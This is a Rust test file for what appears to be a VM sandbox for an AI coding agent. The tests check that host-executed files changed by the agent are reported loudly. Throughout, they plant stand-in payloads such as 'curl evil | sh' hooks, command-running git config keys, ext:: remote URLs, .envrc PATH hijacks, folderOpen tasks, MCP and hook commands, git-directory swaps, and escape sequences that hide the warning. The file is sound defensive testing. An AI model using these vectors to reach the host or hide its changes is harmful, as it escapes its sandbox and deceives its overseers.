//! The host-execution audit: after a session, changes the agent made to files the host
//! executes are reported loudly; ordinary work is not.

use crate::support::*;

const ALERT: &str = "WARNING: this session changed files that run on your host";

#[test]
fn planted_hooks_config_commands_and_host_scripts_are_reported_loudly() {
    let w = World::new();
    w.write_project(".claude-vm.toml", "[vm]\ncpus = 4\n");
    w.setup();
    let plant = r#"set -e
printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
git config core.fsmonitor 'sh -c evil'
git config core.sshCommand 'ssh -o ProxyCommand=evil'
git config alias.st '!evil'
git config filter.x.smudge 'evil'
echo 'export PATH=/tmp/evil:$PATH' > .envrc
echo '# planted' >> .claude-vm.toml
echo 'curl evil' > .claude-vm.setup.sh
"#;
    // Even --quiet does not hide it; the session's own status is unchanged.
    let r = w.run(&["-q", "shell", "--", "sh", "-c", plant]);
    r.ok();
    let err = &r.stderr;
    assert!(err.contains(ALERT), "{err}");
    let p = w.project.display().to_string();
    for line in [
        format!("added    {p}/.git/hooks/pre-commit"),
        format!("added    {p}/.git/config: core.fsmonitor = \"sh -c evil\""),
        format!("added    {p}/.git/config: core.sshcommand = \"ssh -o ProxyCommand=evil\""),
        format!("added    {p}/.git/config: alias.st = \"!evil\""),
        format!("added    {p}/.git/config: filter.x.smudge = \"evil\""),
        format!("added    {p}/.envrc"),
        format!("changed  {p}/.claude-vm.toml"),
        format!("added    {p}/.claude-vm.setup.sh"),
    ] {
        assert!(err.contains(&line), "missing {line:?} in:\n{err}");
    }
    assert!(err.contains("review these before you run git"), "{err}");
}

#[test]
fn ordinary_work_in_the_repository_is_not_reported() {
    let w = World::new();
    w.setup();
    let work = r#"set -e
echo more >> README.md
git add README.md
git -c user.name=vm -c user.email=vm@x commit -q -m work
git config user.name vm
git config alias.lg 'log --oneline'
git branch topic
"#;
    let r = w.run(&["shell", "--", "sh", "-c", work]);
    r.ok();
    assert!(!r.stderr.contains("WARNING"), "{}", r.stderr);
}

#[test]
fn a_worktree_session_is_watched_in_the_main_repository() {
    let w = World::new();
    w.setup();
    let wt = w.root.join("wt");
    git(
        &w.project,
        &["worktree", "add", "-q", "-b", "f", wt.to_str().unwrap()],
    );
    let hook = w.project.join(".git/hooks/post-checkout");
    let plant = format!(
        "printf '#!/bin/sh\\nevil\\n' > '{}' && echo planted > '{}/.envrc'",
        hook.display(),
        w.project.display()
    );
    let r = w.run_in(&["shell", "--", "sh", "-c", &plant], &wt);
    r.ok();
    assert!(r.stderr.contains(ALERT), "{}", r.stderr);
    assert!(
        r.stderr.contains(&hook.display().to_string()),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains(&format!("{}/.envrc", w.project.display())),
        "{}",
        r.stderr
    );
}

/// Plants `script` from inside a session and returns what claude-vm printed.
fn plant(w: &World, script: &str) -> String {
    let r = w.run(&["shell", "--", "sh", "-c", &format!("set -e\n{script}")]);
    r.ok();
    r.stderr
}

#[track_caller]
fn reported(err: &str, needles: &[String]) {
    assert!(err.contains(ALERT), "no warning for:\n{err}");
    for n in needles {
        assert!(err.contains(n.as_str()), "missing {n:?} in:\n{err}");
    }
}

#[test]
fn every_git_config_key_that_runs_a_command_is_reported() {
    let w = World::new();
    w.setup();
    let p = w.project.display().to_string();
    let config = format!("{p}/.git/config");
    // (what the agent runs in the guest, the key as reported, its value)
    let vectors = [
        (
            "git config alias.st '-c core.fsmonitor=evil status'",
            "alias.st",
            "-c core.fsmonitor=evil status",
        ),
        (
            "git config alias.lg 'log --config-env=core.pager=EVIL'",
            "alias.lg",
            "log --config-env=core.pager=EVIL",
        ),
        ("git config alias.x '!evil'", "alias.x", "!evil"),
        (
            "git config remote.origin.uploadpack 'evil'",
            "remote.origin.uploadpack",
            "evil",
        ),
        (
            "git config remote.origin.receivepack 'evil'",
            "remote.origin.receivepack",
            "evil",
        ),
        (
            "git config protocol.ext.allow always",
            "protocol.ext.allow",
            "always",
        ),
        (
            "git config protocol.allow always",
            "protocol.allow",
            "always",
        ),
        (
            "git config remote.up.url 'ext::sh -c evil'",
            "remote.up.url",
            "ext::sh -c evil",
        ),
        (
            "git config 'url.ext::sh -c evil #.insteadOf' https://example.com/",
            "url.ext::sh -c evil #.insteadof",
            "https://example.com/",
        ),
        ("git config gpg.program evil", "gpg.program", "evil"),
        ("git config gpg.ssh.program evil", "gpg.ssh.program", "evil"),
        (
            "git config gpg.ssh.defaultKeyCommand evil",
            "gpg.ssh.defaultkeycommand",
            "evil",
        ),
        (
            "git config gpg.x509.program evil",
            "gpg.x509.program",
            "evil",
        ),
        (
            "git config submodule.lib.update '!evil'",
            "submodule.lib.update",
            "!evil",
        ),
        ("git config core.pager evil", "core.pager", "evil"),
        ("git config core.editor evil", "core.editor", "evil"),
        ("git config sequence.editor evil", "sequence.editor", "evil"),
        ("git config core.askPass evil", "core.askpass", "evil"),
        (
            "git config credential.helper '!evil'",
            "credential.helper",
            "!evil",
        ),
        (
            "git config diff.pdf.textconv evil",
            "diff.pdf.textconv",
            "evil",
        ),
        (
            "git config merge.ours.driver evil",
            "merge.ours.driver",
            "evil",
        ),
        (
            "git config filter.x.process evil",
            "filter.x.process",
            "evil",
        ),
        (
            "git config trailer.sign.command evil",
            "trailer.sign.command",
            "evil",
        ),
        (
            "git config interactive.diffFilter evil",
            "interactive.difffilter",
            "evil",
        ),
        (
            "git config include.path /tmp/evil.cfg",
            "include.path",
            "/tmp/evil.cfg",
        ),
        ("git config imap.tunnel evil", "imap.tunnel", "evil"),
        (
            "git config core.alternateRefsCommand evil",
            "core.alternaterefscommand",
            "evil",
        ),
        // Not on any list: caught by its shape.
        (
            "git config newtool.thing.precommand evil",
            "newtool.thing.precommand",
            "evil",
        ),
    ];
    for (script, key, value) in vectors {
        let err = plant(&w, script);
        reported(&err, &[format!("added    {config}: {key} = {value:?}")]);
        // Back to clean for the next vector (from the host, not audited).
        git(&w.project, &["config", "--unset-all", key]);
    }
}

#[test]
fn an_include_that_already_exists_is_followed() {
    let w = World::new();
    w.write_project(".gitconfig", "[user]\n\tname = me\n");
    git(&w.project, &["config", "include.path", "../.gitconfig"]);
    w.setup();
    let err = plant(&w, "printf '[core]\\n\\tfsmonitor = evil\\n' >> .gitconfig");
    let p = w.project.display().to_string();
    reported(
        &err,
        &[format!(
            "added    {p}/.gitconfig: core.fsmonitor = \"evil\""
        )],
    );
}

#[test]
fn submodule_git_directories_are_audited() {
    let w = World::new();
    w.setup();
    let p = w.project.display().to_string();
    let err = plant(
        &w,
        "mkdir -p .git/modules/lib/hooks .git/modules/nested/a/b
printf 'ref: refs/heads/main\\n' > .git/modules/lib/HEAD
printf '[core]\\n\\tfsmonitor = evil\\n' > .git/modules/lib/config
printf '#!/bin/sh\\nevil\\n' > .git/modules/lib/hooks/post-checkout
printf '[core]\\n\\tsshCommand = evil\\n' > .git/modules/nested/a/b/config",
    );
    reported(
        &err,
        &[
            format!("added    {p}/.git/modules/lib/config: core.fsmonitor = \"evil\""),
            format!("added    {p}/.git/modules/lib/hooks/post-checkout"),
            format!("added    {p}/.git/modules/nested/a/b/config: core.sshcommand = \"evil\""),
        ],
    );
}

#[test]
fn a_commondir_pointing_at_an_agent_made_repository_is_reported_with_its_hooks() {
    let w = World::new();
    w.setup();
    let p = w.project.display().to_string();
    let err = plant(
        &w,
        "git init -q --bare .evil
printf '#!/bin/sh\\nevil\\n' > .evil/hooks/pre-commit
git --git-dir=.evil config core.pager evil
printf '../.evil\\n' > .git/commondir",
    );
    reported(
        &err,
        &[
            format!("added    {p}/.git/commondir = \"points at ../.evil\""),
            format!("added    {p}/.evil/hooks/pre-commit"),
            format!("added    {p}/.evil/config: core.pager = \"evil\""),
        ],
    );
}

#[test]
fn a_replaced_git_directory_is_reported_as_replaced_with_what_git_now_runs() {
    let w = World::new();
    w.setup();
    let p = w.project.display().to_string();
    for (how, script) in [
        (
            "git file",
            "rm -rf .git && printf 'gitdir: .evil\\n' > .git",
        ),
        ("link", "mv .git .old-git && ln -s .evil .git"),
    ] {
        // The user's own hook and config key: after the swap git no longer uses them, which
        // the report says with one `replaced` line, not as removals.
        std::fs::write(w.project.join(".git/hooks/post-merge"), "#!/bin/sh\n").unwrap();
        git(&w.project, &["config", "core.pager", "less"]);
        let err = plant(
            &w,
            &format!(
                "git init -q --bare .evil
printf '#!/bin/sh\\nevil\\n' > .evil/hooks/post-checkout
{script}"
            ),
        );
        reported(
            &err,
            &[
                format!("replaced {p}/.git = "),
                format!("added    {p}/.evil/hooks/post-checkout"),
            ],
        );
        assert!(err.contains(".evil"), "{how}: {err}");
        // Honest: the old samples are not listed as removed one by one.
        assert!(!err.contains("removed"), "{how}: {err}");
        // Put the real repository back (from the host) for the next variant.
        let dot_git = w.project.join(".git");
        if std::fs::symlink_metadata(&dot_git).is_ok_and(|m| m.is_dir()) {
            unreachable!();
        }
        std::fs::remove_file(&dot_git).unwrap();
        std::fs::remove_dir_all(w.project.join(".evil")).unwrap();
        if how == "git file" {
            git(&w.project, &["init", "-q", "-b", "main"]);
            git(&w.project, &["add", "README.md"]);
            git(&w.project, &["commit", "-q", "-m", "again"]);
        } else {
            std::fs::rename(w.project.join(".old-git"), &dot_git).unwrap();
        }
    }
}

#[test]
fn a_worktree_pointer_changed_by_the_agent_is_reported() {
    let w = World::new();
    w.setup();
    let wt = w.root.join("wt");
    git(
        &w.project,
        &["worktree", "add", "-q", "-b", "f", wt.to_str().unwrap()],
    );
    let own = w.project.join(".git/worktrees/wt");
    let other = w.root.join("other");
    std::fs::create_dir_all(&other).unwrap();
    git(&other, &["init", "-q", "--bare"]);
    let script = format!(
        "printf '{}\\n' > '{}/commondir'",
        other.display(),
        own.display()
    );
    let r = w.run_in(&["shell", "--", "sh", "-c", &script], &wt);
    r.ok();
    reported(
        &r.stderr,
        &[format!(
            "changed  {}/commondir = \"points at {}\"",
            own.display(),
            other.display()
        )],
    );
}

#[test]
fn hooks_reached_through_core_hooks_path_are_audited_husky_too() {
    let w = World::new();
    w.write_project(".husky/_/h", "#!/bin/sh\n");
    w.write_project(
        ".husky/_/pre-commit",
        "#!/bin/sh\n. \"$(dirname \"$0\")/h\"\n",
    );
    git(&w.project, &["config", "core.hooksPath", ".husky/_"]);
    w.setup();
    let p = w.project.display().to_string();
    let err = plant(&w, "echo 'curl evil | sh' > .husky/pre-commit");
    reported(&err, &[format!("added    {p}/.husky/pre-commit")]);
    let err = plant(&w, "echo evil >> .husky/_/h");
    reported(&err, &[format!("changed  {p}/.husky/_/h")]);
    // A hooks path the agent points elsewhere in the project: the path and its hooks.
    let err = plant(
        &w,
        "mkdir -p tools/hooks && echo evil > tools/hooks/pre-push && git config core.hooksPath tools/hooks",
    );
    reported(
        &err,
        &[
            format!("changed  {p}/.git/config: core.hookspath = \"tools/hooks\""),
            format!("added    {p}/tools/hooks/pre-push"),
        ],
    );
}

#[test]
fn tool_files_that_run_programs_on_the_host_are_reported() {
    let w = World::new();
    w.write_project(
        ".vscode/settings.json",
        "{\n  // mine\n  \"editor.fontSize\": 12,\n}\n",
    );
    w.setup();
    let p = w.project.display().to_string();
    let vectors: [(&str, &str); 14] = [
        (
            "mkdir -p .claude && echo '{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"evil\"}]}]}}' > .claude/settings.json",
            ".claude/settings.json",
        ),
        ("mkdir -p .claude && echo '{}' > .claude/settings.local.json", ".claude/settings.local.json"),
        ("echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json", ".mcp.json"),
        ("printf 'repos:\\n- repo: local\\n  hooks: [{id: x, entry: evil}]\\n' > .pre-commit-config.yaml", ".pre-commit-config.yaml"),
        ("echo '{\"tasks\":[{\"command\":\"evil\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json", ".vscode/tasks.json"),
        ("echo 'export PATH=/evil:$PATH' > .envrc", ".envrc"),
        ("echo 'echo evil' > .claude-vm.runtime.sh", ".claude-vm.runtime.sh"),
        ("printf 'pre-commit:\\n  commands:\\n    x:\\n      run: evil\\n' > lefthook.yml", "lefthook.yml"),
        ("echo 'PreCommit: {}' > .overcommit.yml", ".overcommit.yml"),
        ("printf '[lfs]\\n\\turl = https://evil/\\n' > .lfsconfig", ".lfsconfig"),
        ("printf '[hooks]\\nenter = \"evil\"\\n' > mise.toml", "mise.toml"),
        ("mkdir -p .devcontainer && echo '{\"initializeCommand\":\"evil\"}' > .devcontainer/devcontainer.json", ".devcontainer/devcontainer.json"),
        ("echo '{\"initializeCommand\":\"evil\"}' > .devcontainer.json", ".devcontainer.json"),
        ("echo '{}' > .vscode/launch.json", ".vscode/launch.json"),
    ];
    for (script, file) in vectors {
        let err = plant(&w, script);
        reported(&err, &[format!("added    {p}/{file}")]);
        std::fs::remove_file(w.project.join(file)).unwrap();
    }
    // VS Code settings: a key that names a program is reported with its value...
    let err = plant(
        &w,
        "printf '{\\n  \"editor.fontSize\": 12, // mine\\n  \"python.defaultInterpreterPath\": \"/tmp/evil\",\\n}\\n' > .vscode/settings.json",
    );
    reported(
        &err,
        &[format!(
            "added    {p}/.vscode/settings.json: python.defaultInterpreterPath = "
        )],
    );
    // ...a cosmetic one is not.
    let r = w.run(&[
        "shell",
        "--",
        "sh",
        "-c",
        "sed -i 's/12/14/' .vscode/settings.json",
    ]);
    r.ok();
    assert!(!r.stderr.contains(ALERT), "{}", r.stderr);
}

#[test]
fn names_and_values_cannot_hide_the_warning_on_a_terminal() {
    let w = World::new();
    w.setup();
    // A hook whose name erases the line and moves up, and a value that does the same.
    let err = plant(
        &w,
        "printf 'evil' > \"$(printf '.git/hooks/post-checkout\\033[2K\\033[1A\\r')\"
git config core.pager \"$(printf 'less\\033[2K\\033[1A\\033]0;t\\007')\"",
    );
    assert!(err.contains(ALERT), "{err}");
    assert!(
        !err.contains('\u{1b}'),
        "a raw ESC reached the terminal: {err:?}"
    );
    assert!(!err.contains('\r') && !err.contains('\u{7}'), "{err:?}");
    assert!(err.contains("post-checkout\\x1b[2K\\x1b[1A\\r"), "{err}");
    assert!(err.contains("less\\x1b[2K\\x1b[1A\\x1b]0;t\\x07"), "{err}");
}

#[test]
fn the_warning_is_kept_in_a_file_that_info_and_the_next_command_point_at() {
    let w = World::new();
    w.setup();
    let r = w.run(&[
        "-q",
        "shell",
        "--",
        "sh",
        "-c",
        "echo evil > .git/hooks/pre-push",
    ]);
    r.ok();
    assert!(r.stderr.contains(ALERT), "{}", r.stderr);
    let kept = r
        .stderr
        .lines()
        .find_map(|l| l.trim().strip_prefix("this report is kept in "))
        .unwrap_or_else(|| panic!("no report file named in:\n{}", r.stderr))
        .to_owned();
    let text = std::fs::read_to_string(&kept).unwrap();
    assert!(text.contains(".git/hooks/pre-push"), "{text}");
    assert!(text.contains("this session changed files"), "{text}");
    // The next command points at it (once), even with -q...
    let r = w.run(&["-q", "list"]);
    r.ok();
    assert!(
        r.stderr.contains("an earlier session changed files"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains(&kept), "{}", r.stderr);
    let r = w.run(&["list"]);
    assert!(!r.stderr.contains("earlier session"), "{}", r.stderr);
    // ...and `info` lists it for this project.
    let r = w.run(&["info"]);
    r.ok();
    assert!(
        r.stdout.contains("audit:") && r.stdout.contains(&kept),
        "{}",
        r.stdout
    );
    // Another project's info does not.
    let other = w.root.join("src/other");
    std::fs::create_dir_all(&other).unwrap();
    git(&other, &["init", "-q"]);
    let r = w.run_in(&["info"], &other);
    assert!(!r.stdout.contains(&kept), "{}", r.stdout);
}

#[test]
fn a_sigkilled_session_is_audited_by_the_next_command() {
    let w = World::new();
    w.setup();
    let mut s = w.spawn(&[
        "shell",
        "--",
        "sh",
        "-c",
        "printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit && git config core.fsmonitor evil && echo PLANTED && sleep 60",
    ]);
    s.await_stdout("PLANTED");
    let pid = s.pid();
    s.signal(libc::SIGKILL);
    assert_eq!(s.finish(), 137);
    let r = w.run(&["list"]);
    r.ok();
    let err = &r.stderr;
    assert!(err.contains("left behind"), "reaped: {err}");
    assert!(
        err.contains(&format!(
            "(pid {pid}), which ended without cleaning up, changed files that run on your host"
        )),
        "{err}"
    );
    let p = w.project.display().to_string();
    for n in [
        format!("added    {p}/.git/hooks/pre-commit"),
        format!("added    {p}/.git/config: core.fsmonitor = \"evil\""),
    ] {
        assert!(err.contains(&n), "missing {n:?} in:\n{err}");
    }
    // Reported once: the next command has nothing more to say about it.
    let r = w.run(&["list"]);
    assert!(
        !r.stderr.contains("ended without cleaning up"),
        "{}",
        r.stderr
    );
}

#[test]
fn scripts_that_hooks_and_settings_point_at_are_watched_by_content() {
    let w = World::new();
    // The user's own setup, made on the host: a git hook linked to a project script, and a
    // Claude Code hook and MCP server that run project scripts.
    w.write_project("scripts/pre-commit", "#!/bin/sh\nexit 0\n");
    std::os::unix::fs::symlink(
        "../../scripts/pre-commit",
        w.project.join(".git/hooks/pre-commit"),
    )
    .unwrap();
    w.write_project("tools/check.sh", "true\n");
    w.write_project("tools/server.js", "// mcp\n");
    w.write_project(".claude/hooks/stop.sh", "true\n");
    w.write_project(
        ".claude/settings.json",
        r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"bash \"$CLAUDE_PROJECT_DIR\"/tools/check.sh --fast"}]}]}}"#,
    );
    w.write_project(
        ".mcp.json",
        r#"{"mcpServers":{"x":{"command":"node","args":["tools/server.js"]}}}"#,
    );
    w.setup();
    let p = w.project.display().to_string();
    for (script, reported_as) in [
        (
            "echo evil >> scripts/pre-commit",
            format!("changed  {p}/.git/hooks/pre-commit"),
        ),
        (
            "echo evil >> tools/check.sh",
            format!("changed  {p}/tools/check.sh"),
        ),
        (
            "echo evil >> tools/server.js",
            format!("changed  {p}/tools/server.js"),
        ),
        (
            "echo evil >> .claude/hooks/stop.sh",
            format!("changed  {p}/.claude/hooks/stop.sh"),
        ),
        (
            "echo evil > .claude/hooks/new.sh",
            format!("added    {p}/.claude/hooks/new.sh"),
        ),
    ] {
        reported(&plant(&w, script), &[reported_as]);
    }
}

#[test]
fn a_session_killed_and_reaped_by_gc_is_audited_too() {
    let w = World::new();
    w.setup();
    let mut s = w.spawn(&[
        "shell",
        "--",
        "sh",
        "-c",
        "echo 'use flake' > .envrc && echo PLANTED && sleep 60",
    ]);
    s.await_stdout("PLANTED");
    s.signal(libc::SIGKILL);
    assert_eq!(s.finish(), 137);
    let r = w.run(&["gc"]);
    r.ok();
    assert!(
        r.stderr.contains("ended without cleaning up"),
        "{}",
        r.stderr
    );
    let p = w.project.display().to_string();
    assert!(
        r.stderr.contains(&format!("added    {p}/.envrc")),
        "{}",
        r.stderr
    );
}

#[test]
fn a_sample_hook_renamed_into_place_is_reported_a_sample_edit_is_not() {
    let w = World::new();
    w.setup();
    let p = w.project.display().to_string();
    assert!(w.project.join(".git/hooks/pre-commit.sample").exists());
    let r = w.run(&[
        "shell",
        "--",
        "sh",
        "-c",
        "echo x >> .git/hooks/pre-commit.sample",
    ]);
    r.ok();
    assert!(!r.stderr.contains(ALERT), "{}", r.stderr);
    let err = plant(&w, "mv .git/hooks/pre-commit.sample .git/hooks/pre-commit");
    reported(&err, &[format!("added    {p}/.git/hooks/pre-commit")]);
}

#[test]
fn on_a_terminal_the_warning_first_undoes_what_the_session_left_set() {
    let w = World::new();
    w.setup();
    // Hidden text, the alternate screen, the line-drawing character set, a one-line scroll
    // region, a hidden cursor: each would hide or garble what comes next.
    let script =
        "echo evil > .git/hooks/pre-push; printf '\\033[8m\\033[?1049h\\033(0\\033[1;1r\\033[?25l'";
    let r = w.run_pty(&["shell", "--", "sh", "-c", script], &[]);
    r.ok();
    let t = &r.transcript;
    let planted = t
        .find("\u{1b}[1;1r")
        .expect("the session's output reached the terminal");
    let warning = t
        .find("WARNING:")
        .unwrap_or_else(|| panic!("no warning in {t:?}"));
    assert!(planted < warning, "{t:?}");
    for undo in [
        "\u{1b}[0m",
        "\u{1b}(B",
        "\u{1b}[r",
        "\u{1b}[?1049l",
        "\u{1b}[?25h",
    ] {
        let at = t[planted..]
            .find(undo)
            .map(|i| i + planted)
            .unwrap_or_else(|| panic!("{undo:?} not sent after the session: {t:?}"));
        assert!(at < warning, "{undo:?} comes before the warning: {t:?}");
    }
}
